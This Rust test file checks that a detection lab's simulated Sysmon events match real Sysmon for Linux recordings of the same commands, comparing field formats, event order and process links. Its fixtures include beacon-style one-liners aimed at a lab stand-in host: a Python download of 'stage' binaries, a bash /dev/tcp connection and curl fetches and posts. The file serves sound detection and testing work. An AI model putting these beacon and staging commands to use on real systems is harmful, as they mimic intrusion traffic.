//! The lab's events beside those that the real Sysmon for Linux recorded of the
//! same kind of commands: which events come of which program in which order, and
//! what stands in each field.
//!
//! The lab tells of a Windows host; what is different for that reason, or because
//! Sysmon for Linux does otherwise than Sysmon for Windows, is named in
//! [`DIFFERENT`] and [`is_of_linux_alone`], and nowhere else. Sources: Sysmon's
//! manifest and rendering, <https://github.com/Sysinternals/SysmonForLinux> and
//! <https://github.com/Sysinternals/SysmonCommon>; the forms are read off the
//! recordings.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;

use jiff::Timestamp;
use predicates::prelude::*;

use crate::support::{Library, Record, Run, Workplace, tool};

/// A field that has the same form on both: in which events, its name, its form.
const SAME: [(&[u16], &str, &str); 25] = [
    (&[1, 3, 5, 11], "RuleName", "^-$"),
    (&[1, 3, 5, 11], "UtcTime", TIME),
    (&[1, 3, 5, 11], "ProcessId", "^[1-9][0-9]*$"),
    // Files of Linux, which most are here, have no version's resource.
    (&[1], "FileVersion", "^-$"),
    (&[1], "Description", "^-$"),
    (&[1], "Product", "^-$"),
    (&[1], "Company", "^-$"),
    (&[1], "OriginalFileName", "^-$"),
    (&[1], "CommandLine", r"(?s)^[^\s-].*$"),
    (&[1], "TerminalSessionId", "^[0-9]+$"),
    (&[1], "ParentProcessId", "^[1-9][0-9]*$"),
    (&[3], "Protocol", "^tcp$"),
    (&[3], "Initiated", "^true$"),
    (&[3], "SourceIsIpv6", "^false$"),
    (&[3], "SourceIp", ADDRESS),
    // Without reverse lookups, both write a hyphen.
    (&[3], "SourceHostname", "^-$"),
    (&[3], "SourcePort", "^[1-9][0-9]*$"),
    (&[3], "SourcePortName", "^-$"),
    (&[3], "DestinationIsIpv6", "^false$"),
    (&[3], "DestinationIp", ADDRESS),
    (&[3], "DestinationHostname", "^-$"),
    (&[3], "DestinationPort", "^(80|8080)$"),
    (&[11], "CreationUtcTime", TIME),
    (&[1], "CurrentDirectory", r"^(/|C:\\)"),
    (&[11], "TargetFilename", r"^(/|C:\\).*[a-z0-9]\.(json|bin)$"),
];

const TIME: &str = r"^20\d\d-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}$";
const ADDRESS: &str = r"^\d{1,3}(\.\d{1,3}){3}$";
const LOWER: &str = r"^\{[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\}$";
const UPPER: &str = r"^\{[0-9A-F]{8}(-[0-9A-F]{4}){3}-[0-9A-F]{12}\}$";

/// A field that differs, and why.
struct Difference {
    events: &'static [u16],
    field: &'static str,
    linux: &'static str,
    lab: &'static str,
    /// For whoever reads this list.
    _because: &'static str,
}

const fn differs(
    events: &'static [u16],
    field: &'static str,
    linux: &'static str,
    lab: &'static str,
    because: &'static str,
) -> Difference {
    Difference {
        events,
        field,
        linux,
        lab,
        _because: because,
    }
}

/// What differs on purpose.
const DIFFERENT: [Difference; 12] = [
    differs(
        &[1, 3, 5, 11],
        "ProcessGuid",
        LOWER,
        UPPER,
        "Windows renders GUIDs in capitals",
    ),
    differs(
        &[1],
        "ParentProcessGuid",
        LOWER,
        UPPER,
        "as above; and zeros for a parent that Sysmon for Linux does not know, where the lab's \
         first process has the runner",
    ),
    differs(
        &[1],
        "LogonGuid",
        LOWER,
        UPPER,
        "as above; on Linux, only the machine's part is there",
    ),
    differs(
        &[1, 3, 5, 11],
        "Image",
        "^/usr/bin/[a-z0-9.]+$",
        r"^(C:\\.*\.exe|/usr/bin/(bash|cat))$",
        "programs of the staged drive; what is not on it keeps its path",
    ),
    differs(
        &[1, 3, 5, 11],
        "User",
        "^(root|-)$",
        r"^CORP\\analyst$",
        "domain and account; on Linux a name, and a hyphen for root in events 5 and 11",
    ),
    differs(
        &[1],
        "ParentUser",
        "^(root|-)$",
        r"^CORP\\analyst$",
        "as User",
    ),
    differs(
        &[1],
        "LogonId",
        "^[0-9]+$",
        "^0x[0-9a-f]+$",
        "win:HexInt64; on Linux the user's number",
    ),
    differs(
        &[1],
        "IntegrityLevel",
        "^no level$",
        "^Medium$",
        "Linux has none",
    ),
    differs(
        &[1],
        "Hashes",
        "^[A-Z0-9]+=[0-9a-f]+(,[A-Z0-9]+=[0-9a-f]+)*$",
        "^[A-Z0-9]+=[0-9A-F]+(,[A-Z0-9]+=[0-9A-F]+)*$",
        "Windows renders them in capitals; which there are is configured",
    ),
    differs(
        &[1],
        "ParentImage",
        "^(/usr/bin/[a-z]+|-)$",
        r"^(C:\\.*\.exe|/.*[^/])$",
        "as Image; and the runner is known, as on Linux a parent is not that was there before",
    ),
    differs(
        &[1],
        "ParentCommandLine",
        r"^\S+$",
        r"(?s)^[^\s-].*$",
        "on Linux, the first word alone",
    ),
    differs(
        &[3],
        "DestinationPortName",
        "^-$",
        "^http$",
        "Windows looks it up in its `services`; Sysmon for Linux never does",
    ),
];

/// Events that only one of both writes: Sysmon for Linux the lookup's own UDP
/// packets, sides that accept, and an end for each thread; the lab event 22.
fn is_of_linux_alone(record: &Record) -> bool {
    record.id == 3 && (record.field("Protocol") == "udp" || record.field("Initiated") == "false")
}

/// A recording of Sysmon for Linux, if it is at hand.
fn capture(name: &str) -> Option<Vec<Record>> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/data/sysmon")
        .join(name);
    let Ok(text) = fs::read_to_string(&path) else {
        eprintln!("skipped: {} not present", path.display());
        return None;
    };
    // The reader knows events by their namespace, which Linux' have not.
    let mut records = Record::all(&text.replace("<Event>", "<Event xmlns='-'>"));
    // The server that the beacons went to is none of them.
    let is_server = |record: &Record| record.field("Initiated") == "false";
    let servers: BTreeSet<String> = records
        .iter()
        .filter(|record| is_server(record) && record.field("Protocol") == "tcp")
        .map(|record| record.field("ProcessGuid").to_owned())
        .collect();
    records.retain(|record| !servers.contains(record.field("ProcessGuid")));
    Some(records)
}

/// The last part of a path, without what Windows adds and a version.
fn program(image: &str) -> &str {
    let name = image.rsplit(['\\', '/']).next().unwrap();
    let name = name.strip_suffix(".exe").unwrap_or(name);
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// The words of a command line after the first.
fn arguments(record: &Record) -> &str {
    let line = record.field("CommandLine");
    line.split_once(' ').map_or("", |(_, rest)| rest)
}

/// What each process of a program was told, and the events that came of it, in
/// order: those that both systems have.
fn stories<'r>(records: &'r [Record], of: &str) -> Vec<(&'r str, Vec<u16>)> {
    let starts = records
        .iter()
        .filter(|record| record.id == 1 && program(record.field("Image")) == of);
    starts
        .map(|start| {
            let guid = start.field("ProcessGuid");
            let mut ids: Vec<u16> = records
                .iter()
                .filter(|record| record.field("ProcessGuid") == guid)
                .filter(|record| record.id != 22 && !is_of_linux_alone(record))
                .map(|record| record.id)
                .collect();
            // The end of the process is the last thread's.
            let last = ids.iter().rposition(|id| *id == 5);
            let mut at = 0;
            ids.retain(|id| {
                at += 1;
                *id != 5 || Some(at - 1) == last
            });
            (arguments(start), ids)
        })
        .collect()
}

/// What the recorded command is in the lab: its endpoints serve port 80, and it is
/// written into the current directory.
fn in_the_lab(line: &str) -> String {
    line.replace("work/out/curl/", "")
        .replace(":8080", "")
        .replace("104.18.1.1", "beacon.lab.workers.dev")
}

/// The recorded curl commands, as one command of cmd.exe.
fn of_curl(records: &[Record]) -> String {
    let commands: Vec<String> = stories(records, "curl")
        .iter()
        .map(|(arguments, _)| format!("curl.exe {}", in_the_lab(arguments)))
        .collect();
    assert!(!commands.is_empty());
    commands.join(" & ")
}

const PYTHON: &str = "python.exe -c \"import http.client as h; \
    [(c := h.HTTPConnection('beacon.lab.workers.dev'), c.request('GET', '/'), \
    b := c.getresponse().read(), open('stage' + str(i) + '.bin', 'wb').write(b)) \
    for i in range(5)]\"";

const BASH: &str = "python.exe -c \"import subprocess as s; s.run(['/usr/bin/bash', '-c', \
    r'exec 3<>/dev/tcp/beacon.lab.workers.dev/80; printf \\\"GET / HTTP/1.0\\r\\n\\r\\n\\\" >&3; \
    cat <&3 >/dev/null; true'])\"";

/// The recordings, and a run of the same kind of commands.
struct Both {
    captures: BTreeMap<&'static str, Vec<Record>>,
    lab: Vec<Record>,
    _run: Run,
}

impl Both {
    fn new(workplace: &Workplace) -> Option<Self> {
        tool("curl")?;
        tool("bash")?;
        let mut captures = BTreeMap::new();
        for name in ["curl", "curl_post", "curl_refused", "python", "bash_devtcp"] {
            captures.insert(name, capture(&format!("linux_{name}.xml"))?);
        }
        let curl: Vec<String> = ["curl", "curl_post", "curl_refused"]
            .iter()
            .map(|name| of_curl(&captures[name]))
            .collect();
        let tests = [
            ("curl", "command_prompt", curl[0].as_str()),
            ("curl_post", "command_prompt", &curl[1]),
            ("curl_refused", "command_prompt", &curl[2]),
            ("python", "command_prompt", PYTHON),
            ("bash", "command_prompt", BASH),
        ];
        let library = Library::of(workplace, &tests);
        let library = library.path().to_str().unwrap();
        let options = ["--ptr", "none", "--interpreters", "stand-in"];
        let arguments = ["run", "--scenarios", library].into_iter().chain(options);
        let run = workplace.run(arguments);
        // No beacon over TLS: nothing is to be judged, and all was recorded.
        run.exits(4);
        Some(Self {
            captures,
            lab: run.records(),
            _run: run,
        })
    }

    /// All recorded events.
    fn linux(&self) -> impl Iterator<Item = &Record> {
        self.captures.values().flatten()
    }
}

fn is_like(form: &str, value: &str) -> bool {
    predicate::str::is_match(form).unwrap().eval(value)
}

#[test]
fn the_same_commands_leave_the_same_events_in_the_same_order() {
    let workplace = Workplace::new();
    let Some(both) = Both::new(&workplace) else {
        return;
    };
    let mut of_linux: Vec<(String, Vec<u16>)> = Vec::new();
    for name in ["curl", "curl_post", "curl_refused"] {
        let stories = stories(&both.captures[name], "curl");
        of_linux.extend(
            stories
                .into_iter()
                .map(|(told, ids)| (in_the_lab(told), ids)),
        );
    }
    // Nine commands that end: the events before differ by what they do.
    let ends: BTreeSet<&[u16]> = of_linux.iter().map(|(_, ids)| ids.as_slice()).collect();
    assert_eq!(
        ends,
        BTreeSet::from([&[1, 3, 5][..], &[1, 3, 11, 5], &[1, 5]])
    );
    let mut of_lab: Vec<(String, Vec<u16>)> = stories(&both.lab, "curl")
        .into_iter()
        .map(|(told, ids)| (told.to_owned(), ids))
        .collect();
    of_linux.sort();
    of_lab.sort();
    assert_eq!(of_lab, of_linux);

    let ids = |records: &[Record], of: &str| -> Vec<Vec<u16>> {
        let stories = stories(records, of);
        stories.into_iter().map(|(_, ids)| ids).collect()
    };
    // The other Python of the lab only starts bash.
    let beacons = stories(&both.lab, "python")
        .into_iter()
        .filter(|(told, _)| told.contains("http.client"))
        .map(|(_, ids)| ids);
    assert_eq!(
        beacons.collect::<Vec<_>>(),
        ids(&both.captures["python"], "python")
    );
    let bash = &both.captures["bash_devtcp"];
    assert_eq!(ids(&both.lab, "bash"), ids(bash, "bash"));
    // The recording ends before cat does.
    assert_eq!(ids(bash, "cat"), [[1]]);
    assert_eq!(ids(&both.lab, "cat"), [[1, 5]]);
    // Neither was given a word.
    let told = |records| stories(records, "cat")[0].0;
    assert_eq!([told(&both.lab), told(bash)], ["", ""]);
}

#[test]
fn each_field_has_the_recorded_form_but_for_what_differs_on_purpose() {
    let workplace = Workplace::new();
    let Some(both) = Both::new(&workplace) else {
        return;
    };
    let mut used = BTreeSet::new();
    let mut check = |record: &Record, is_lab: bool| {
        for (name, value) in &record.data {
            let same = SAME
                .iter()
                .filter(|(events, field, _)| events.contains(&record.id) && field == name)
                .map(|(_, field, form)| (*field, *form));
            let different = DIFFERENT
                .iter()
                .filter(|row| row.events.contains(&record.id) && row.field == name)
                .map(|row| (row.field, if is_lab { row.lab } else { row.linux }));
            let forms: Vec<_> = same.chain(different).collect();
            let [(field, form)] = forms.as_slice() else {
                panic!("event {}: {name} has {} forms", record.id, forms.len());
            };
            assert!(
                is_like(form, value),
                "event {} {}: {name} is {value:?}, not {form}",
                record.id,
                if is_lab { "of the lab" } else { "of Linux" }
            );
            used.insert(*field);
        }
    };
    for record in both.linux().filter(|record| !is_of_linux_alone(record)) {
        check(record, false);
    }
    for record in both.lab.iter().filter(|record| record.id != 22) {
        check(record, true);
    }
    let listed = SAME.len() + DIFFERENT.len();
    assert_eq!(used.len(), listed, "a form that no field has: {used:?}");
}

#[test]
fn the_head_of_an_event_differs_by_provider_channel_and_one_letter() {
    let workplace = Workplace::new();
    let Some(both) = Both::new(&workplace) else {
        return;
    };
    let of_lab = |id: u16| both.lab.iter().find(|record| record.id == id).unwrap();
    for record in both.linux() {
        let mut system = record.system.clone();
        let security = system.last_mut().unwrap();
        assert_eq!(security.1, ["UserId"]);
        security.1 = vec!["UserID".to_owned()];
        let lab = of_lab(record.id);
        assert_eq!(lab.system, system, "event {}", record.id);
        assert_eq!(lab.fields(), record.fields(), "event {}", record.id);
        // Version, Level, Task, Opcode and Keywords, as the manifest has them.
        let head = |text: &str| {
            let (_, rest) = text.split_once("</EventID>").unwrap();
            rest.split_once("<TimeCreated").unwrap().0.to_owned()
        };
        assert_eq!(head(&lab.text), head(&record.text));
        assert!(record.text.contains("Name=\"Linux-Sysmon\""));
        assert!(lab.text.contains("Name='Microsoft-Windows-Sysmon'"));
    }
}

/// What one event says of another's process, and of when and where things were.
#[test]
fn events_hold_together_in_the_same_way() {
    let workplace = Workplace::new();
    let Some(both) = Both::new(&workplace) else {
        return;
    };
    for records in both.captures.values().chain([&both.lab]) {
        let starts: BTreeMap<&str, &Record> = records
            .iter()
            .filter(|record| record.id == 1)
            .map(|record| (record.field("ProcessGuid"), record))
            .collect();
        let mut machines = BTreeSet::new();
        let mut parents = 0;
        for record in records {
            let guid = record.field("ProcessGuid");
            let start = starts[guid];
            assert_eq!(record.field("ProcessId"), start.field("ProcessId"));
            assert_eq!(record.field("Image"), start.field("Image"));
            machines.insert(guid[1..9].to_lowercase());
            if record.id == 11 {
                let directory = start.field("CurrentDirectory");
                let target = record.field("TargetFilename");
                assert!(target.starts_with(directory), "{target} in {directory}");
            }
            if record.id != 1 {
                continue;
            }
            // The second and third group are when the process was made.
            let seconds = format!("{}{}", &guid[15..19], &guid[10..14]);
            let made = i64::from_str_radix(&seconds, 16).unwrap();
            let time = record.field("UtcTime").replace(' ', "T") + "Z";
            assert_eq!(made, time.parse::<Timestamp>().unwrap().as_second());
            if let Some(parent) = starts.get(record.field("ParentProcessGuid")) {
                parents += 1;
                for field in ["Image", "ProcessId", "User"] {
                    let said = record.field(&format!("Parent{field}"));
                    assert_eq!(said, parent.field(field));
                }
                let line = parent.field("CommandLine");
                assert!(line.starts_with(record.field("ParentCommandLine")));
            }
        }
        assert_eq!(machines.len(), 1, "one machine");
        assert!(parents > 0);
    }
}

/// A client of Linux that is given a path of Windows: its event names the file as
/// Windows' does.
#[test]
fn a_file_at_a_path_of_windows_has_that_path() {
    if tool("curl").is_none() {
        return;
    }
    let workplace = Workplace::new();
    let command = "curl.exe -s -o \"%TEMP%\\r.json\" https://beacon.lab.workers.dev/";
    let library = Library::of(&workplace, &[("File", "command_prompt", command)]);
    let library = library.path().to_str().unwrap();
    let run = workplace.run(["run", "--scenarios", library, "--interpreters", "stand-in"]);
    run.exits(0);
    let made = run.events(11);
    let targets: Vec<_> = made
        .iter()
        .map(|record| record.field("TargetFilename"))
        .collect();
    assert_eq!(targets, [r"C:\Users\analyst\AppData\Local\Temp\r.json"]);
}
